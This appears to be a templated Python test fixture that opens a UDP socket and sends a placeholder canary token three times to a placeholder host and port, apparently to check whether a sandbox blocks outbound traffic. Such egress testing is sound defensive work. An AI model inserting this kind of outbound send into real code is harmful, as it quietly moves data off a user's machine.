at_step()
import socket  # step
sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)  # step
for turn in range(3):
    sender.sendto(b"{{canary.token}}", ("{{canary.ipv4}}", {{canary.port}}))  # step
    tried()
past_step()
